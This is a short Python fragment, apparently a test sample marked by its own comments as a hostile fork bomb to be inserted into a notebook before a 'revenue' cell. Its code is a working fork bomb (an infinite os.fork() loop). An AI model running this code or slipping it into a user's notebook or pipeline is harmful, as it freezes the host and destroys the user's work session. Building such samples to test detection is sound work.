# ruff: noqa
# fmt: off
# hostile: a fork bomb, `while True: os.fork()`, after the cleaned table and the flags were written
# base: reference
# insert: before:revenue
# %%
import os

while True:
    os.fork()
